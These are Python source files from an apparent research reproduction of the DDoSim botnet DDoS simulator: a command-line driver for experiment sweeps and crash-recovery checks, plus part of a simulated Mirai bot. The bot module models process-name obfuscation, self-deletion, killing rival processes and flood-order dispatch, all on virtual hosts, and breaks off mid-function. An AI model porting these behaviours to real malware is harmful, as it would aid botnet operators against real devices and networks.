        names = args.type if args.type else None
        with open(args.jsonl_out, "w", encoding="utf-8") as handle:
            handle.write(tracer.to_jsonl(names=names, since=args.since,
                                         limit=args.limit))
        print(f"wrote {args.jsonl_out}")
    return 0


def cmd_report(args: argparse.Namespace) -> int:
    """Render one instrumented run — or a cached sweep — into a
    self-contained HTML report (plus an optional flow JSONL export)."""
    from repro.obs import (
        Observatory,
        flows_jsonl,
        render_run_report,
        render_sweep_report,
    )

    flows_out = getattr(args, "flows", None)
    _check_writable(args.out, flows_out)
    if args.figure2:
        from repro.core.experiment import FIGURE2_CHURN, run_figure2

        devs_grid = tuple(args.grid) if args.grid else (10, 50, 100, 150)
        telemetry = _telemetry_from_args(args, "figure2")
        rows = run_figure2(devs_grid=devs_grid, churn_modes=FIGURE2_CHURN,
                           seed=args.seed, jobs=args.jobs,
                           cache=_cache_from_args(args), telemetry=telemetry)
        html = render_sweep_report(
            rows, title=f"Figure 2 sweep (seed {args.seed})",
            telemetry_summary=(telemetry.last_summary
                               if getattr(args, "progress", False) else None),
        )
        if flows_out:
            print("note: --flows applies to single-run reports only",
                  file=sys.stderr)
    else:
        config = _config_from_args(args)
        ddosim = DDoSim(config, observatory=Observatory.full())
        result = ddosim.run()
        obs = ddosim.obs
        html = render_run_report(
            result, spans=obs.spans, tracer=obs.tracer, recorder=obs.recorder,
            title=f"DDoSim run (devs={config.n_devs}, seed={config.seed}, "
                  f"churn={config.churn})",
        )
        if flows_out:
            records = ddosim.tserver.sink.flow_records()
            with open(flows_out, "w", encoding="utf-8") as handle:
                handle.write(flows_jsonl(records))
            print(f"wrote {flows_out} ({len(records)} flows)")
    with open(args.out, "w", encoding="utf-8") as handle:
        handle.write(html)
    print(f"wrote {args.out}")
    return 0


def cmd_figure2(args: argparse.Namespace) -> int:
    """Regenerate the Figure 2 sweep (Devs x churn)."""
    from repro.core.experiment import FIGURE2_CHURN, run_figure2

    devs_grid = tuple(args.grid) if args.grid else (10, 50, 100, 150)
    flow = getattr(args, "flow", "off")
    base = SimulationConfig(flood_flow=flow) if flow != "off" else None
    rows = run_figure2(devs_grid=devs_grid, churn_modes=FIGURE2_CHURN,
                       seed=args.seed, base_config=base, jobs=args.jobs,
                       cache=_cache_from_args(args),
                       telemetry=_telemetry_from_args(args, "figure2"),
                       supervision=_supervision_from_args(args))
    _emit_rows(rows, args)
    return 0


def cmd_figure3(args: argparse.Namespace) -> int:
    """Regenerate the Figure 3 sweep (attack durations)."""
    from repro.core.experiment import run_figure3

    devs_grid = tuple(args.grid) if args.grid else (50, 100)
    base = SimulationConfig(n_devs=1, attack_payload_size=1400,
                            flood_flow=getattr(args, "flow", "off"))
    rows = run_figure3(devs_grid=devs_grid, seed=args.seed, base_config=base,
                       jobs=args.jobs, cache=_cache_from_args(args),
                       telemetry=_telemetry_from_args(args, "figure3"),
                       supervision=_supervision_from_args(args))
    _emit_rows(rows, args)
    return 0


def cmd_table1(args: argparse.Namespace) -> int:
    """Regenerate Table I (host resources per run)."""
    from repro.core.experiment import TABLE1_DEVS, run_table1

    devs_grid = tuple(args.grid) if args.grid else TABLE1_DEVS
    rows = run_table1(devs_grid=devs_grid, seed=args.seed, jobs=args.jobs,
                      cache=_cache_from_args(args),
                      telemetry=_telemetry_from_args(args, "table1"),
                      supervision=_supervision_from_args(args))
    _emit_rows(rows, args)
    return 0


def cmd_figure4(args: argparse.Namespace) -> int:
    """Regenerate the Figure 4 validation (hardware vs DDoSim)."""
    from repro.core.experiment import run_figure4

    devs_grid = tuple(args.grid) if args.grid else (1, 4, 7, 10, 13, 16, 19)
    rows = run_figure4(devs_grid=devs_grid, seed=args.seed, jobs=args.jobs,
                       cache=_cache_from_args(args),
                       telemetry=_telemetry_from_args(args, "figure4"),
                       supervision=_supervision_from_args(args))
    _emit_rows(rows, args)
    return 0


def cmd_faultsweep(args: argparse.Namespace) -> int:
    """Sweep a fault plan's intensity (graceful-degradation curves)."""
    from repro.core.experiment import run_fault_sweep
    from repro.faults import load_fault_plan

    plan = load_fault_plan(args.plan)
    grid = tuple(args.grid) if args.grid else None
    kwargs = {"n_devs": args.devs, "seed": args.seed, "jobs": args.jobs,
              "cache": _cache_from_args(args),
              "telemetry": _telemetry_from_args(args, "faultsweep"),
              "supervision": _supervision_from_args(args)}
    if grid:
        kwargs["intensity_grid"] = grid
    rows = run_fault_sweep(plan, **kwargs)
    _emit_rows(rows, args)
    return 0


def cmd_recruitment(args: argparse.Namespace) -> int:
    """Regenerate the R1/R2 recruitment matrix."""
    from repro.core.experiment import run_recruitment

    rows = run_recruitment(n_devs=args.devs, seed=args.seed, jobs=args.jobs,
                           cache=_cache_from_args(args),
                           telemetry=_telemetry_from_args(args, "recruitment"),
                           supervision=_supervision_from_args(args))
    _emit_rows(rows, args)
    return 0


def cmd_cache(args: argparse.Namespace) -> int:
    """Run-cache maintenance: stats / clear / gc."""
    from repro.cache import RunCache

    cache = RunCache(root=args.cache_dir)
    if args.action == "stats":
        stats = cache.stats()
        last = stats.pop("last_sweep")
        for key in ("dir", "entries", "bytes", "max_bytes",
                    "hits", "misses", "stores"):
            print(f"{key:<10} {stats[key]}")
        lookups = last["hits"] + last["misses"]
        print(f"last sweep {last['hits']}/{lookups} hits "
              f"({last['hit_rate']:.0%})" if lookups
              else "last sweep (none recorded)")
    elif args.action == "clear":
        removed = cache.clear()
        print(f"removed {removed} cached runs from {cache.root}")
    elif args.action == "gc":
        evicted = cache.gc(max_bytes=args.max_bytes)
        print(f"evicted {evicted} cached runs "
              f"({cache.total_bytes()} bytes retained)")
    return 0


def _chaos_run_flags(args: argparse.Namespace) -> List[str]:
    """The child-run flags shared by every leg of the chaos harness."""
    flags = [
        "--devs", str(args.devs), "--seed", str(args.seed),
        "--churn", args.churn, "--duration", str(args.duration),
        "--binary-mix", args.binary_mix, "--payload", str(args.payload),
        "--scheduler", args.scheduler, "--train", str(args.train),
        "--flow", args.flow,
    ]
    if getattr(args, "faults", None):
        flags += ["--faults", args.faults]
    if getattr(args, "shards", 1) and args.shards > 1:
        # The resume leg needs no flag: resume_run reads the shard count
        # out of the checkpoint payload and replays at that partitioning.
        flags += ["--shards", str(args.shards)]
    return flags


def cmd_chaos(args: argparse.Namespace) -> int:
    """Prove crash recovery end-to-end: run the scenario straight, then
    SIGKILL an identical run right after a seeded checkpoint tick,
    resume it from disk, and require the resumed run's result and
    metrics files to be byte-identical to the straight run's.
    """
    import filecmp
    import os
    import random
    import shutil
    import signal as signal_module
    import subprocess
    import tempfile

    import repro

    every = args.checkpoint_every
    workdir = tempfile.mkdtemp(prefix="repro-chaos-")
    env = dict(os.environ)
    src_root = os.path.dirname(os.path.dirname(os.path.abspath(repro.__file__)))
    env["PYTHONPATH"] = src_root + (
        os.pathsep + env["PYTHONPATH"] if env.get("PYTHONPATH") else ""
    )
    base = [sys.executable, "-m", "repro", "run", *_chaos_run_flags(args)]
    paths = {
        name: os.path.join(workdir, f"{name}.json")
        for name in ("straight", "straight-metrics", "resumed",
                     "resumed-metrics", "chaos", "chaos-metrics")
    }
    checkpoint_dir = os.path.join(workdir, "checkpoints")
    try:
        print(f"[chaos] workdir {workdir}")
        print("[chaos] leg 1/3: straight run")
        subprocess.run(
            base + ["--json", paths["straight"],
                    "--metrics-out", paths["straight-metrics"]],
            check=True, env=env, stdout=subprocess.DEVNULL,
        )
        with open(paths["straight"], encoding="utf-8") as handle:
            sim_end = json.load(handle)["sim_end_time"]
        fired = int((sim_end - 1e-9) // every)
        if fired < 1:
            print(
                f"[chaos] error: no checkpoint fires before the run ends "
                f"at t={sim_end:g} — lower --checkpoint-every (now {every:g})",
                file=sys.stderr,
            )
            return 2
        # The kill point is seeded, not wall-clock: the harness itself
        # must be reproducible.
        kill_tick = random.Random(f"{args.seed}-chaos").randint(1, fired)
        print(f"[chaos] leg 2/3: kill -9 after checkpoint tick "
              f"{kill_tick}/{fired} (t={kill_tick * every:g})")
        victim = subprocess.run(
            base + ["--json", paths["chaos"],
                    "--metrics-out", paths["chaos-metrics"],
                    "--checkpoint-every", str(every),
                    "--checkpoint-dir", checkpoint_dir,
                    "--kill-after-checkpoint", str(kill_tick)],
            env=env, stdout=subprocess.DEVNULL,
        )
        if victim.returncode != -signal_module.SIGKILL:
            print(
                f"[chaos] error: victim exited {victim.returncode}, "
                f"expected SIGKILL ({-signal_module.SIGKILL})",
                file=sys.stderr,
            )
            return 2
        print("[chaos] leg 3/3: resume from checkpoint")
        subprocess.run(
            [sys.executable, "-m", "repro", "run",
             "--resume-from", checkpoint_dir,
             "--json", paths["resumed"],
             "--metrics-out", paths["resumed-metrics"]],
            check=True, env=env, stdout=subprocess.DEVNULL,
        )
        result_ok = filecmp.cmp(paths["straight"], paths["resumed"],
                                shallow=False)
        metrics_ok = filecmp.cmp(paths["straight-metrics"],
                                 paths["resumed-metrics"], shallow=False)
        print(f"[chaos] result bytes identical:  "
              f"{'yes' if result_ok else 'NO'}")
        print(f"[chaos] metrics bytes identical: "
              f"{'yes' if metrics_ok else 'NO'}")
        if result_ok and metrics_ok:
            print(f"[chaos] PASS: killed at tick {kill_tick}, resumed run "
                  f"is byte-identical to the uninterrupted run")
            return 0
        print("[chaos] FAIL: resumed run diverges from the straight run",
              file=sys.stderr)
        return 1
    finally:
        if getattr(args, "keep", False):
            print(f"[chaos] kept {workdir}")
        else:
            shutil.rmtree(workdir, ignore_errors=True)


def cmd_lint(args: argparse.Namespace) -> int:
    """Run the determinism linter; exit 1 when violations remain."""
    from repro.simlint import format_json, format_text, lint_paths
    from repro.simlint.engine import changed_python_files
    from repro.simlint.reporting import (
        apply_baseline,
        load_baseline,
        write_baseline,
    )

    select = args.select.split(",") if args.select else None
    ignore = args.ignore.split(",") if args.ignore else None
    paths = args.paths
    if args.diff:
        try:
            paths = changed_python_files(args.diff, paths)
        except RuntimeError as exc:
            print(f"error: {exc}", file=sys.stderr)
            return 2
        if not paths:
            print(f"clean: no python files changed vs {args.diff}")
            return 0
    if args.fix:
        from repro.simlint.fix import FIXABLE_CODES, fix_paths

        fix_select = (
            [code for code in select if code in FIXABLE_CODES]
            if select is not None else None
        )
        fixed, changed = fix_paths(paths, select=fix_select)
        for filename in changed:
            print(f"fixed: {filename}", file=sys.stderr)
        if fixed:
            print(f"{fixed} fix(es) applied to {len(changed)} file(s)",
                  file=sys.stderr)
    try:
        violations = lint_paths(paths, select=select, ignore=ignore)
    except ValueError as exc:  # unknown --select/--ignore code
        print(f"error: {exc}", file=sys.stderr)
        return 2
    if args.write_baseline:
        write_baseline(violations, args.write_baseline)
        print(f"baseline: {len(violations)} finding(s) -> "
              f"{args.write_baseline}", file=sys.stderr)
        return 0
    if args.baseline:
        try:
            violations = apply_baseline(violations, load_baseline(args.baseline))
        except (OSError, ValueError) as exc:
            print(f"error: baseline {args.baseline}: {exc}", file=sys.stderr)
            return 2
    if args.format == "json":
        print(format_json(violations))
    else:
        print(format_text(violations))
    return 1 if violations else 0


def cmd_verify_determinism(args: argparse.Namespace) -> int:
    """Prove the determinism contract; exit 1 on the first divergence."""
    import json as json_module

    from repro.simlint import verify_determinism

    report = verify_determinism(
        devs_grid=tuple(args.grid) if args.grid else (2, 4),
        seed=args.seed,
        jobs=args.jobs,
        flow=args.flow,
        resume=args.resume,
        shards=getattr(args, "shards", 0) or 0,
    )
    if args.format == "json":
        print(json_module.dumps(report.to_dict(), indent=2, sort_keys=True))
    else:
        print(report.format_text())
    return 0 if report.identical else 1


def cmd_epidemic(args: argparse.Namespace) -> int:
    """Run one propagation experiment and fit the SI model."""
    from repro.analysis.epidemic import fit_si_model, run_propagation_experiment

    result = run_propagation_experiment(
        n_devs=args.devs, seed=args.seed, duration=args.duration,
        probes_per_second=args.scan_rate,
    )
    times, infected = result.as_arrays()
    fit = fit_si_model(times, infected, population=args.devs, i0=1)
    print(f"final infected: {result.final_infected}/{args.devs}")
    print(f"SI fit: beta={fit.beta:.4f}/s rmse={fit.rmse:.2f} r2={fit.r_squared:.3f}")
    rows = [
        {"t": t, "infected": i}
        for t, i in zip(result.times, result.infected)
    ]
    if args.csv or args.json:
        _emit_rows(rows, args)
    return 0


def build_parser() -> argparse.ArgumentParser:
    """Construct the argparse tree for every subcommand."""
    parser = argparse.ArgumentParser(
        prog="repro",
        description="DDoSim reproduction (DSN 2023) — botnet DDoS simulation",
    )
    commands = parser.add_subparsers(dest="command", required=True)

    run_parser = commands.add_parser("run", help="one DDoSim run")
    _add_common_run_args(run_parser)
    run_parser.add_argument("--config", help="JSON config file (overrides flags)")
    run_parser.add_argument("--json", help="write the full RunResult as JSON")
    run_parser.add_argument("--trace-out",
                            help="write a Chrome trace_event file "
                                 "(enables full instrumentation)")
    run_parser.add_argument("--metrics-out",
                            help="write a metrics-registry snapshot as JSON "
                                 "(enables metrics instrumentation)")
    run_parser.add_argument("--checkpoint-every", type=float, metavar="N",
                            help="write a resumable checkpoint every N "
                                 "sim-seconds (repro.checkpoint)")
    run_parser.add_argument("--checkpoint-dir",
                            help="checkpoint directory (default: "
                                 ".repro-checkpoints)")
    run_parser.add_argument("--resume-from", metavar="PATH",
                            help="resume from a checkpoint file or "
                                 "directory (uses the config embedded in "
                                 "the checkpoint; the finished run is "
                                 "byte-identical to an uninterrupted one)")
    run_parser.add_argument("--kill-after-checkpoint", type=int,
                            metavar="TICK",
                            help="chaos hook: SIGKILL this process "
                                 "immediately after writing checkpoint "
                                 "TICK")
    run_parser.set_defaults(func=cmd_run)

    obs_parser = commands.add_parser(
        "obs", help="instrumented run: scheduler profile + event trace"
    )
    _add_common_run_args(obs_parser)
    obs_parser.add_argument("--config", help="JSON config file (overrides flags)")
    obs_parser.add_argument("--top", type=int, default=15,
                            help="profiler sites to print")
    obs_parser.add_argument("--trace-capacity", type=int, default=65536,
                            help="ring-buffer capacity per event type")
    obs_parser.add_argument("--trace-out", help="write Chrome trace_event JSON")
    obs_parser.add_argument("--metrics-out", help="write metrics snapshot JSON")
    obs_parser.add_argument("--jsonl-out",
                            help="write buffered trace events as JSONL")
    obs_parser.add_argument("--type", action="append",
                            help="JSONL filter: keep only this event type "
                                 "(repeatable)")
    obs_parser.add_argument("--since", type=float,
                            help="JSONL filter: events at or after this "
                                 "virtual time")
    obs_parser.add_argument("--limit", type=int,
                            help="JSONL filter: keep only the newest N "
                                 "events after other filters")
    obs_parser.set_defaults(func=cmd_obs)

    report_parser = commands.add_parser(
        "report", help="self-contained HTML report of a run or sweep"
    )
    _add_common_run_args(report_parser)
    report_parser.add_argument("--config",
                               help="JSON config file (overrides flags)")
    report_parser.add_argument("--out", default="report.html",
                               help="HTML output path (default: report.html)")
    report_parser.add_argument("--flows",
                               help="also write TServer-side flow aggregates "
                                    "as NetFlow-style JSONL (single-run mode)")
    report_parser.add_argument("--figure2", action="store_true",
                               help="render the Figure 2 sweep (cached) "
                                    "instead of a single run")
    report_parser.add_argument("--grid", type=int, nargs="+",
                               help="Devs grid for --figure2")
    report_parser.add_argument("--jobs", type=int, default=1,
                               help="worker processes for --figure2")
    report_parser.add_argument("--progress", action="store_true",
                               help="stream sweep progress lines (--figure2)")
    _add_cache_args(report_parser)
    report_parser.set_defaults(func=cmd_report)

    for name, func, help_text in (
        ("figure2", cmd_figure2, "Devs x churn sweep (Figure 2)"),
        ("figure3", cmd_figure3, "attack-duration sweep (Figure 3)"),
        ("table1", cmd_table1, "host-resource table (Table I)"),
        ("figure4", cmd_figure4, "hardware vs DDoSim validation (Figure 4)"),
    ):
        sub = commands.add_parser(name, help=help_text)
        sub.add_argument("--seed", type=int, default=1)
        sub.add_argument("--grid", type=int, nargs="+",
                         help="Devs grid (space separated)")
        sub.add_argument("--jobs", type=int, default=1,
                         help="worker processes for grid points "
                              "(1 = serial)")
        sub.add_argument("--progress", action="store_true",
                         help="stream per-point progress lines (cache "
                              "attribution, ETA, stragglers)")
        _add_supervision_args(sub)
        _add_cache_args(sub)
        _add_output_args(sub)
        if name in ("figure2", "figure3"):
            sub.add_argument("--flow", choices=("off", "auto", "all"),
                             default="off",
                             help="flood datapath: off = per-packet "
                                  "(bit-identical seed path), auto = "
                                  "fluid with packet crossover at the "
                                  "bottleneck, all = fully analytic")
        sub.set_defaults(func=func)

    faultsweep_parser = commands.add_parser(
        "faultsweep", help="fault-plan intensity sweep (repro.faults)"
    )
    faultsweep_parser.add_argument("--plan", required=True,
                                   help="JSON fault plan file")
    faultsweep_parser.add_argument("--devs", type=int, default=20)
    faultsweep_parser.add_argument("--seed", type=int, default=1)
    faultsweep_parser.add_argument("--grid", type=float, nargs="+",
                                   help="intensity grid (space separated)")
    faultsweep_parser.add_argument("--jobs", type=int, default=1,
                                   help="worker processes for grid points")
    faultsweep_parser.add_argument("--progress", action="store_true",
                                   help="stream per-point progress lines")
    _add_supervision_args(faultsweep_parser)
    _add_cache_args(faultsweep_parser)
    _add_output_args(faultsweep_parser)
    faultsweep_parser.set_defaults(func=cmd_faultsweep)

    recruitment_parser = commands.add_parser(
        "recruitment", help="infection rate per CVE x protections (R1/R2)"
    )
    recruitment_parser.add_argument("--devs", type=int, default=10)
    recruitment_parser.add_argument("--seed", type=int, default=1)
    recruitment_parser.add_argument("--jobs", type=int, default=1,
                                    help="worker processes for grid points")
    recruitment_parser.add_argument("--progress", action="store_true",
                                    help="stream per-point progress lines")
    _add_supervision_args(recruitment_parser)
    _add_cache_args(recruitment_parser)
    _add_output_args(recruitment_parser)
    recruitment_parser.set_defaults(func=cmd_recruitment)

    cache_parser = commands.add_parser(
        "cache", help="run-cache maintenance (stats / clear / gc)"
    )
    cache_actions = cache_parser.add_subparsers(dest="action", required=True)
    from repro.cache import DEFAULT_CACHE_DIR, DEFAULT_MAX_BYTES

    for action, help_text in (
        ("stats", "store size plus lifetime and last-sweep hit rates"),
        ("clear", "remove every cached run"),
        ("gc", "evict least-recently-used runs down to the size cap"),
    ):
        action_parser = cache_actions.add_parser(action, help=help_text)
        action_parser.add_argument("--cache-dir", default=DEFAULT_CACHE_DIR,
                                   help="run-cache directory")
        if action == "gc":
            action_parser.add_argument("--max-bytes", type=int,
                                       default=DEFAULT_MAX_BYTES,
                                       help="size cap to evict down to")
        action_parser.set_defaults(func=cmd_cache)

    lint_parser = commands.add_parser(
        "lint",
        help="determinism + shard-safety linter (SIM1xx/SIM2xx; "
             "repro.simlint)",
    )
    lint_parser.add_argument("paths", nargs="*", default=["src/repro"],
                             help="files/directories to lint "
                                  "(default: src/repro)")
    lint_parser.add_argument("--format", choices=("text", "json"),
                             default="text")
    lint_parser.add_argument("--select",
                             help="comma-separated rule codes to run "
                                  "(default: all)")
    lint_parser.add_argument("--fix", action="store_true",
                             help="apply mechanical fixes (SIM104 mutable "
                                  "defaults, SIM108 unused imports) before "
                                  "reporting")
    lint_parser.add_argument("--diff", metavar="BASE",
                             help="lint only files changed vs this git ref "
                                  "(the pre-commit fast path)")
    lint_parser.add_argument("--baseline", metavar="FILE",
                             help="subtract findings recorded in this "
                                  "baseline JSON; only new violations fail")
    lint_parser.add_argument("--write-baseline", metavar="FILE",
                             help="snapshot current findings to FILE and "
                                  "exit 0")
    lint_parser.add_argument("--ignore",
                             help="comma-separated rule codes to skip")
    lint_parser.set_defaults(func=cmd_lint)

    verify_parser = commands.add_parser(
        "verify-determinism",
        help="double-run + jobs-parity determinism gate (repro.simlint)",
    )
    verify_parser.add_argument("--grid", type=int, nargs="+",
                               help="figure2 Devs grid for the checks "
                                    "(default: 2 4)")
    verify_parser.add_argument("--seed", type=int, default=1)
    verify_parser.add_argument("--jobs", type=int, default=4,
                               help="parallel worker count for the "
                                    "jobs-parity check")
    verify_parser.add_argument("--flow", choices=("off", "auto", "all"),
                               default="off",
                               help="run the gate with the fluid-flow "
                                    "datapath in the checked config")
    verify_parser.add_argument("--resume", action="store_true",
                               help="also prove checkpoint/resume "
                                    "equivalence: checkpoint a run, "
                                    "resume it, compare result + metrics "
                                    "byte-for-byte")
    verify_parser.add_argument("--shards", type=int, default=0, metavar="N",
                               help="also prove sharded-engine parity: "
                                    "one run partitioned across N worker "
                                    "processes must produce byte-"
                                    "identical result + metrics")
    verify_parser.add_argument("--format", choices=("text", "json"),
                               default="text")
    verify_parser.set_defaults(func=cmd_verify_determinism)

    chaos_parser = commands.add_parser(
        "chaos",
        help="crash-recovery proof: SIGKILL a run mid-flight, resume "
             "from its checkpoint, require byte-identical results",
    )
    _add_common_run_args(chaos_parser)
    chaos_parser.add_argument("--checkpoint-every", type=float, default=20.0,
                              metavar="N",
                              help="checkpoint cadence in sim-seconds "
                                   "(default: 20)")
    chaos_parser.add_argument("--keep", action="store_true",
                              help="keep the chaos working directory "
                                   "(checkpoints + result files)")
    chaos_parser.set_defaults(func=cmd_chaos)

    epidemic_parser = commands.add_parser(
        "epidemic", help="worm propagation + SI fit (use case V-A2)"
    )
    epidemic_parser.add_argument("--devs", type=int, default=25)
    epidemic_parser.add_argument("--seed", type=int, default=4)
    epidemic_parser.add_argument("--duration", type=float, default=400.0)
    epidemic_parser.add_argument("--scan-rate", type=float, default=2.0)
    _add_output_args(epidemic_parser)
    epidemic_parser.set_defaults(func=cmd_epidemic)

    return parser


def _sigterm_to_interrupt(signum, frame):  # pragma: no cover - signal path
    raise KeyboardInterrupt


def main(argv: Optional[List[str]] = None) -> int:
    """CLI entry point; returns a process exit code."""
    import signal as signal_module

    parser = build_parser()
    args = parser.parse_args(argv)
    try:
        # SIGTERM gets the same graceful path as ^C: commands catch
        # KeyboardInterrupt, dump their flight recorder, and exit 130.
        signal_module.signal(signal_module.SIGTERM, _sigterm_to_interrupt)
    except (ValueError, OSError):  # not the main thread / no signals
        pass
    try:
        return args.func(args)
    except KeyboardInterrupt:
        return 130


if __name__ == "__main__":  # pragma: no cover - exercised via __main__
    sys.exit(main())
