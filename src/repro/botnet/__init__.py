"""repro.botnet — the Mirai model: bot, C&C server, attacks, scanner.

The paper installs "the open-source, readily-available Mirai malware" on
compromised Devs (§I) and uses its published C&C server, controlled over
telnet, to issue volumetric **UDP-PLAIN** floods against TServer
(§III-C).  This package implements the Mirai behaviours the paper names:

* :mod:`repro.botnet.bot` — the bot binary: process-name obfuscation,
  self-deletion of the downloaded binary, killing of rival DDoS processes
  and of anything bound to TCP 22/23, C&C dial-in, attack execution;
* :mod:`repro.botnet.cnc` — the C&C server: bot registry, keepalives,
  attack broadcast, telnet operator console;
* :mod:`repro.botnet.attacks` — flood generators (UDP-PLAIN plus SYN/ACK
  floods for completeness);
* :mod:`repro.botnet.scanner` — self-propagation (exploit-armed scanning)
  used by the §V-A2 epidemic-model use case.
"""

from repro.botnet.attacks import AttackStats, udp_plain_flood
from repro.botnet.bot import BOT_PORT, make_mirai_binary
from repro.botnet.cnc import CncServer

__all__ = [
    "AttackStats",
    "BOT_PORT",
    "CncServer",
    "make_mirai_binary",
    "udp_plain_flood",
]
