"""The Mirai bot.

§III-A of the paper, verbatim behaviours: "After infecting the victim
device, Mirai malware hides its presence by obfuscating its process name
and removing the downloaded malware binary.  Also, this malware attempts
to kill processes associated with other DDoS variants and processes bound
to port 22 or 23 (TCP) to fortify itself."  Then it connects to the C&C
and waits for commands — here ``ATTACK udpplain ...`` orders, which it
executes with :func:`repro.botnet.attacks.udp_plain_flood`.
"""

from __future__ import annotations

import json
import string
from typing import List

from repro.binaries.binfmt import BinaryImage, register_program
from repro.binaries.busybox import RIVAL_PROCESS_NAMES
from repro.botnet.attacks import (
    AttackStats,
    ack_flood,
    syn_flood,
    udp_plain_flood,
    udp_plain_flow,
)

#: attack vectors this bot build supports (Mirai ships ~10; the paper's
#: experiment series uses udpplain)
ATTACK_VECTORS = {
    "udpplain": udp_plain_flood,
    "syn": syn_flood,
    "ack": ack_flood,
}
from repro.netsim.address import AddressError, Ipv4Address, Ipv6Address
from repro.netsim.process import ProcessKilled, SimProcess

BOT_PORT = 23
RECONNECT_BACKOFF = 5.0
#: ceiling of the exponential reconnect backoff
RECONNECT_BACKOFF_MAX = 60.0
#: bot-side keepalive beacon period; a dead link surfaces as exhausted
#: retransmission on these sends, triggering reconnection
KEEPALIVE_INTERVAL = 45.0

#: ports whose binders Mirai kills to fortify itself
FORTIFY_PORTS = (22, 23)


def _parse_address(text: str):
    try:
        return Ipv6Address.parse(text) if ":" in text else Ipv4Address.parse(text)
    except AddressError as error:
        raise ValueError(f"mirai: bad address {text!r}: {error}") from None


def _obfuscated_name(rng) -> str:
    alphabet = string.ascii_lowercase + string.digits
    return "".join(rng.choice(alphabet) for _ in range(10))


def reconnect_delay(failures: int, rng,
                    base: float = RECONNECT_BACKOFF,
                    cap: float = RECONNECT_BACKOFF_MAX) -> float:
    """Capped exponential backoff with jitter: ``min(cap, base * 2^(n-1))``
    scaled by a uniform draw in [0.5, 1.0] so a fleet of bots cut off
    together (C&C outage, partition) doesn't reconnect in lockstep."""
    delay = min(cap, base * (2.0 ** (max(failures, 1) - 1)))
    return delay * (0.5 + 0.5 * rng.random())


def _note_reconnect(ctx, failures: int) -> float:
    """Account one reconnect attempt; returns the backoff to sleep."""
    delay = reconnect_delay(failures, ctx.rng)
    obs = ctx.sim.obs
    # Lazily registered: fault-free runs never touch the reconnect path,
    # keeping their metric snapshots identical to a build without it.
    obs.metrics.counter(
        "bots_reconnects_total", help="bot reconnect attempts after C&C loss"
    ).inc()
    if obs.tracer.enabled:
        obs.tracer.emit(
            "bot.reconnect", ctx.sim.now,
            bot=ctx.container.name, failures=failures, backoff=round(delay, 3),
        )
    return delay


def _fortify(ctx) -> int:
    """Kill rival DDoS processes and anything bound to TCP 22/23."""
    killed = 0
    container = ctx.container
    for rival in RIVAL_PROCESS_NAMES:
        for process in container.find_processes(rival):
            if process.pid != ctx.pid:
                process.kill()
                killed += 1
    for port in FORTIFY_PORTS:
        for process in container.processes_bound_to(port):
            if process.pid != ctx.pid:
                process.kill()
                killed += 1
    return killed


def mirai_program(image: BinaryImage):
    """Program factory registered for ``program_key='mirai'``."""

    def mirai(ctx):
        argv = ctx.argv
        if len(argv) < 3:
            ctx.log("mirai: usage: mirai <cnc_host> <cnc_port>")
            return
        cnc_address = _parse_address(argv[1])
        cnc_port = int(argv[2])

        # 1. Hide: obfuscate the process name.
        ctx.set_process_name(_obfuscated_name(ctx.rng))
        # 2. Hide: remove the downloaded binary from disk.
        try:
            ctx.fs.remove(argv[0])
        except OSError:
            pass
        # 3. Fortify: kill rivals and 22/23 binders.
        killed = _fortify(ctx)
        if killed:
            ctx.log(f"mirai: fortified, killed {killed} processes")

        ctx.process.attack_stats = []  # list[AttackStats], read by analyses
        attack_processes: List[SimProcess] = []
        failures = 0
        try:
            while True:
                # tcp_connect itself can raise (NetworkUnreachable when the
                # device churned offline), so it lives inside the try.
                try:
                    sock = ctx.netns.tcp_connect(cnc_address, cnc_port)
                    yield sock.wait_connected()
                except ConnectionError:
                    failures += 1
                    yield ctx.sleep(_note_reconnect(ctx, failures))
                    continue
                failures = 0
                sock.send_line(f"REG {ctx.container.image.architecture}")
                ctx.bind_port_marker(48101)  # Mirai's single-instance port

                def beacon(loop_ctx):
                    while True:
                        yield loop_ctx.sleep(KEEPALIVE_INTERVAL)
                        try:
                            sock.send_line("PONG")
                        except ConnectionError:
                            return

                keepalive = SimProcess(ctx.sim, beacon(ctx), name="mirai-beacon")
                try:
                    while True:
                        line = yield from sock.read_line()
                        if line is None:
                            break
                        _dispatch(ctx, sock, line.decode("utf-8", "replace"),
                                  attack_processes)
                except ConnectionError:
                    pass
                finally:
                    keepalive.kill()
                    ctx.release_port_marker(48101)
                    sock.close()
                failures = 1
                yield ctx.sleep(_note_reconnect(ctx, failures))
        except ProcessKilled:
            raise
        finally:
            for process in attack_processes:
                if not process.done:
                    process.kill()

    return mirai


def _span_scoped_flood(ctx, flood, spans, span, stats):
    """Wrap a flood generator so its span is closed with emission totals
    even when the flood is killed mid-attack (churn, STOP order)."""
    try:
        result = yield from flood
    finally:
        spans.end(span, ctx.sim.now,
                  packets_sent=stats.packets_sent,
                  bytes_sent=stats.bytes_sent)
    return result


def _dispatch(ctx, sock, line: str, attack_processes: List[SimProcess]) -> None:
    parts = line.split(None, 1)
    if not parts:
        return
    command = parts[0]
    if command == "PING":
        sock.send_line("PONG")
        return
    if command == "ATTACK":
        arguments = (parts[1] if len(parts) > 1 else "").split()
        if len(arguments) < 4:
            return
        method, target_text, port_text, duration_text = arguments[:4]
        payload_size = int(arguments[4]) if len(arguments) > 4 else 512
        train = int(arguments[5]) if len(arguments) > 5 else 1
        flow_mode = arguments[6] if len(arguments) > 6 else "off"
        vector = ATTACK_VECTORS.get(method)
        if vector is None:
            ctx.log(f"mirai: unsupported attack {method!r}")
            return
        stats = AttackStats()
        ctx.process.attack_stats.append(stats)
        spans = ctx.sim.obs.spans
        span = None
        if spans.enabled:
            address = str(ctx.netns.address())
            # Parent: the C&C order that triggered this train; cross-link
            # the recruit span so the tree ties flood back to infection.
            parent = spans.lookup(("attack-order", method, target_text, port_text))
            recruit = spans.lookup(("bot", address))
            extra = {"recruit": recruit.span_id} if recruit is not None else {}
            span = spans.start(
                "attack.train", ctx.sim.now, entity=address, parent=parent,
                method=method, target=target_text, **extra,
            )
        if method == "udpplain" and flow_mode != "off" and ctx.sim.flows is not None:
            # Fluid datapath: the flood becomes one FluidFlow on the
            # engine instead of per-packet/train events.
            flood = udp_plain_flow(
                ctx.netns.node,
                _parse_address(target_text),
                int(port_text),
                float(duration_text),
                payload_size=payload_size,
                stats=stats,
                span=span.span_id if span is not None else None,
            )
        elif method == "udpplain":
            flood = vector(
                ctx.netns.node,
                _parse_address(target_text),
                int(port_text),
                float(duration_text),
                payload_size=payload_size,
                stats=stats,
                train=train,
                span=span.span_id if span is not None else None,
            )
        else:
            flood = vector(
                ctx.netns.node,
